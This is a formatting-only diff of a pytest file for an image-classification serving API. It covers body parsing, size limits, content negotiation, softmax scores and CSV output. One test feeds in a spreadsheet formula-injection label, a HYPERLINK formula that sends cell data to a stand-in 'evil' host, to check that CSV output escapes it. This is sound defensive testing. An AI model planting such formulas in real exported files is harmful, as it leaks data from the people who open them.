@@ -14,12 +14,17 @@ from kd.deploy.serve.limits import Problem
 
 
 def encoded(*files: bytes) -> bytes:
-    return json.dumps({"images": [base64.b64encode(file).decode() for file in files]}).encode()
+    return json.dumps(
+        {"images": [base64.b64encode(file).decode() for file in files]}
+    ).encode()
 
 
 def multipart(*files: bytes, boundary: str = "b0und") -> bytes:
     parts = [
-        f'--{boundary}\r\ncontent-disposition: form-data; name="x"; filename="y"\r\n\r\n'.encode() + f + b"\r\n"
+        f'--{boundary}\r\ncontent-disposition: form-data; name="x";'
+        ' filename="y"\r\n\r\n'.encode()
+        + f
+        + b"\r\n"
         for f in files
     ]
     return b"".join(parts) + f"--{boundary}--\r\n".encode()
@@ -40,7 +45,9 @@ def test_json():
     assert bodies.images("application/json", "", single, 4).files == [b"one"]
 
 
-@pytest.mark.parametrize("boundary", ["b0und", "----WebKitFormBoundary7MA4YWxkTrZu0gW", "a b"])
+@pytest.mark.parametrize(
+    "boundary", ["b0und", "----WebKitFormBoundary7MA4YWxkTrZu0gW", "a b"]
+)
 def test_multipart(boundary):
     body = multipart(*FILES, boundary=boundary)
     header = f'multipart/form-data; boundary="{boundary}"'
@@ -86,27 +93,56 @@ def test_malformed_json_is_refused(body):
         ("multipart/form-data; boundary=b0und", b""),
         ("multipart/form-data; boundary=b0und", multipart(b"x")[:-8]),
         ("multipart/form-data; boundary=b0und", b"--b0und--\r\n"),
-        ("multipart/form-data; boundary=b0und", b"--b0und\r\nno end of the header\r\n--b0und--\r\n"),
-        ("multipart/form-data; boundary=b0und", b"--b0und\r\n" + b"h" * 9000 + b"\r\n\r\nx\r\n--b0und--\r\n"),
+        (
+            "multipart/form-data; boundary=b0und",
+            b"--b0und\r\nno end of the header\r\n--b0und--\r\n",
+        ),
+        (
+            "multipart/form-data; boundary=b0und",
+            b"--b0und\r\n" + b"h" * 9000 + b"\r\n\r\nx\r\n--b0und--\r\n",
+        ),
     ],
 )
 def test_malformed_multipart_is_refused(header, body):
     boundary_is_longer_than_allowed = "x" * 100 in header
-    assert status_of("multipart/form-data", header, body) == 400 or boundary_is_longer_than_allowed
+    assert (
+        status_of("multipart/form-data", header, body) == 400
+        or boundary_is_longer_than_allowed
+    )
 
 
 @pytest.mark.parametrize("item", [b"[", b"[],", b"{},", b'{"a":', b"0,", b'"",'])
 def test_too_many_values_are_not_parsed(item):
-    assert status_of("application/json", "", b'{"image": [' + item * 50_000 + b"0]}") == 413
+    assert (
+        status_of("application/json", "", b'{"image": [' + item * 50_000 + b"0]}")
+        == 413
+    )
 
 
 def test_too_many_images():
     assert status_of("application/json", "", encoded(*[b"x"] * 5)) == 413
-    assert status_of("multipart/form-data", "multipart/form-data; boundary=b0und", multipart(*[b"x"] * 5)) == 413
-    assert status_of("multipart/form-data", "multipart/form-data; boundary=b0und", multipart(*[b"x"] * 500)) == 413
+    assert (
+        status_of(
+            "multipart/form-data",
+            "multipart/form-data; boundary=b0und",
+            multipart(*[b"x"] * 5),
+        )
+        == 413
+    )
+    assert (
+        status_of(
+            "multipart/form-data",
+            "multipart/form-data; boundary=b0und",
+            multipart(*[b"x"] * 500),
+        )
+        == 413
+    )
 
 
-@pytest.mark.parametrize("header", ["text/plain", "image/gif", "application/x-www-form-urlencoded", "image", "*/*"])
+@pytest.mark.parametrize(
+    "header",
+    ["text/plain", "image/gif", "application/x-www-form-urlencoded", "image", "*/*"],
+)
 def test_types_that_are_not_taken(header):
     with pytest.raises(Problem, match="Allowed are image/jpeg") as caught:
         bodies.media_type(header)
@@ -134,7 +170,17 @@ def test_accept(accept, expected):
     assert responses.negotiate(accept) == expected
 
 
-@pytest.mark.parametrize("accept", ["text/html", "application/xml", "application/json;q=0", "*/*;q=0", "nonsense", ","])
+@pytest.mark.parametrize(
+    "accept",
+    [
+        "text/html",
+        "application/xml",
+        "application/json;q=0",
+        "*/*;q=0",
+        "nonsense",
+        ",",
+    ],
+)
 def test_accept_of_nothing_that_we_write(accept):
     with pytest.raises(Problem) as caught:
         responses.negotiate(accept)
@@ -152,7 +198,9 @@ def test_scores_are_torchs_softmax():
     logits = np.random.default_rng(0).normal(0, 5, (7, 11)).astype(np.float32)
     expected = torch.from_numpy(logits).double().softmax(1).numpy()
     assert np.allclose(responses.probabilities(logits), expected, rtol=1e-12, atol=0)
-    assert np.isfinite(responses.probabilities(np.array([[1e4, -1e4]], np.float32))).all()
+    assert np.isfinite(
+        responses.probabilities(np.array([[1e4, -1e4]], np.float32))
+    ).all()
 
 
 def test_the_prediction_is_ranked_and_rounded():
@@ -160,17 +208,30 @@ def test_the_prediction_is_ranked_and_rounded():
     found = responses.predictions(np.array([[0.0, 2.0, 1.0]], np.float32), labels, 2)
     assert [entry["label"] for entry in found[0]["top"]] == [labels[1], "c"]
     assert found[0]["score"] == round(float(np.exp(2) / np.exp([0, 1, 2]).sum()), 6)
-    rows = list(csv.reader(io.StringIO(responses.write("text/csv", found, "m", "v").decode())))
+    rows = list(
+        csv.reader(io.StringIO(responses.write("text/csv", found, "m", "v").decode()))
+    )
     assert rows == [[labels[1], "0.665241", "c", "0.244728"]]
     content = json.loads(responses.write("application/json", found, "m", "v"))
     assert content == {"predictions": found, "model": "m", "version": "v"}
 
 
 def test_a_label_is_no_formula_of_a_spreadsheet():
-    labels = ('=HYPERLINK("http://evil/?"&A1,"fig")', "@SUM(1+1)", "-2+3", "+a", "-2", "fig")
+    labels = (
+        '=HYPERLINK("http://evil/?"&A1,"fig")',
+        "@SUM(1+1)",
+        "-2+3",
+        "+a",
+        "-2",
+        "fig",
+    )
     pairs = [{"label": label, "score": 0.5} for label in labels]
     for answer in ({"top": pairs}, {"labels": pairs, "top": pairs}):
-        (row,) = csv.reader(io.StringIO(responses.write("text/csv", [answer], "m", "v").decode()))
+        (row,) = csv.reader(
+            io.StringIO(responses.write("text/csv", [answer], "m", "v").decode())
+        )
         assert row[::2] == [*(f"'{label}" for label in labels[:4]), "-2", "fig"]
-    content = json.loads(responses.write("application/json", [{"top": pairs}], "m", "v"))
+    content = json.loads(
+        responses.write("application/json", [{"top": pairs}], "m", "v")
+    )
     assert content["predictions"] == [{"top": pairs}]
